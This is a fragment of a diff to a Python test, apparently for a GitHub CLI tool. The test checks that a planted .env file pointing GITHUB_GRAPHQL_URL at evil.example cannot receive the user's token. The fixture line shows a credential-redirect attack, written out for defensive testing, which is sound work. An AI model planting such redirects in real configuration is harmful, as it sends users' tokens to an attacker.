@@ -101,7 +101,7 @@ def test_the_host_a_token_goes_to_is_named() -> None:
 def test_a_planted_env_file_cannot_send_the_token_over_http(
     cli_env: dict[str, str], tmp_path: Path
 ) -> None:
-    token = "ghp_plantedEnvMustNotReceiveThis"
+    token = "planted-env-must-not-receive-this"
     (tmp_path / ".env").write_text("GITHUB_GRAPHQL_URL=http://evil.example/graphql\n")
     cli_env["GITHUB_TOKEN"] = token
     result = subprocess.run(
